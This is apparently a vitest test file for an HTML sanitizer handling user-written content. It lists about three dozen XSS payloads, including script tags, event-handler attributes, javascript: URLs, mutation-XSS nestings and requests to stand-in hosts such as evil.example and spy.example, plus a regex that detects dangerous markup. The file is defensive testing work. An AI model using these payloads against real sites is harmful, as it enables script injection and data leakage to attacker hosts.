import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanHtml, cleanInline, cleanLocalized, plainText } from './html.ts'

/** Known ways to run script or to contact a foreign server. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example>',
  '<img src=x onerror=alert(1)>',
  '<img src="/files/a/480.webp" onerror="alert(1)">',
  '<img src="https://spy.example/pixel.gif">',
  '<img src="//spy.example/pixel.gif">',
  '<img srcset="https://spy.example/a 1x" src="/files/a">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:x">a</a>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example">',
  '<form action="//evil.example"><input name=a><button>b</button></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p><!--><script>alert(1)</script>--></p>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '"><script>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<textarea><script>alert(1)</script></textarea>',
  '<video src=//evil.example onloadstart=alert(1)>',
  '<a href="https://example.com" target="_blank" onclick="x()">a</a>',
  '<x-thing contenteditable autofocus onfocus=alert(1)>',
]

/** Any active tag, attribute or URL scheme. */
const danger =
  /<(?!\/?(p|br|hr|h[234]|strong|b|em|i|u|s|a|ul|ol|li|blockquote|figure|figcaption|img|table|thead|tbody|tr|th|td|caption|sub|sup|code|pre)\b)[a-z!]|<[^>]*\son\w+=|<[^>]*\s(style|srcset|formaction|data)=|<a[^>]*href="\s*(?!https?:|mailto:|tel:|\/|#|\.|\?|")[^"]*:|<img[^>]*src="(?!\/files\/)/i

describe('HTML from people', () => {
  it.each(attacks)('cannot run script or reach elsewhere: %s', (html) => {
    expect(cleanHtml(html)).not.toMatch(danger)
    expect(cleanInline(html)).not.toMatch(danger)
    expect(cleanInline(html)).not.toMatch(/<(?!\/?(br|strong|b|em|i|a)\b)/)
  })

  it('is sanitized at any position, and sanitizing is idempotent', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(fc.constantFrom(...attacks), fc.string(), fc.constantFrom('<', '>', '"', '&', '<b>', '</b>')),
          { maxLength: 8 },
        ),
        (parts) => {
          for (const clean of [cleanHtml, cleanInline]) {
            const once = clean(parts.join(''))
            expect(once).not.toMatch(danger)
            expect(clean(once)).toBe(once)
          }
        },
      ),
      { numRuns: 1000 },
    )
  })

  it('parses the same a second time', () => {
    const once = cleanHtml('<noscript><p title="</noscript><i>"><math><mtext><table><mglyph><style>x')
    expect(once).toBe('<p></p><table></table><p></p>')
    expect(cleanHtml(once)).toBe(once)
  })

  it('keeps the formatting that writers need', () => {
    const html =
      '<h2>제목</h2><p>본문 <strong>굵게</strong> <em>기울임</em> <a href="https://example.com">링크</a><br />둘째 줄</p><ul><li>하나</li></ul><ol start="3"><li>셋</li></ol><blockquote>인용</blockquote><figure><img src="/files/01/960.webp" alt="균열" width="960" height="640" /><figcaption>사진</figcaption></figure><table><tbody><tr><th scope="row">세대</th><td colspan="2">812</td></tr></tbody></table>'
    expect(cleanHtml(html)).toBe(html)
    expect(cleanInline('한 줄<br />둘째 <b>굵게</b> <a href="tel:02-000-1200">전화</a>')).toBe(
      '한 줄<br />둘째 <b>굵게</b> <a href="tel:02-000-1200">전화</a>',
    )
  })

  it('gives a new window no access to the old one', () => {
    for (const target of ['_BLANK', 'window', ''])
      expect(cleanHtml(`<a href="/" target="${target}">a</a>`)).toBe(
        '<a href="/" target="_blank" rel="noopener noreferrer">a</a>',
      )
    for (const target of ['_self', '_TOP', '_parent'])
      expect(cleanHtml(`<a href="/" target="${target}">a</a>`)).toBe('<a href="/">a</a>')
    expect(cleanHtml('<a href="https://example.com" target="_blank">a</a>')).toBe(
      '<a href="https://example.com" target="_blank" rel="noopener noreferrer">a</a>',
    )
  })

  it('is sanitized in each language', () => {
    expect(cleanLocalized({ ko: '<b>가</b><script>x</script>', en: '<p>a</p>' }, cleanInline)).toEqual({
      ko: '<b>가</b>',
      en: 'a',
    })
  })
})

describe('plain text', () => {
  it('has no markup, single spaces and decoded characters', () => {
    expect(plainText('<h2>제목</h2><p>하나<br>둘 &amp; &lt;셋&gt; &quot;넷&quot;</p><script>x</script>')).toBe(
      '제목 하나 둘 & <셋> "넷"',
    )
    expect(plainText('<ul><li>가</li><li>나</li></ul>')).toBe('가 나')
  })
})
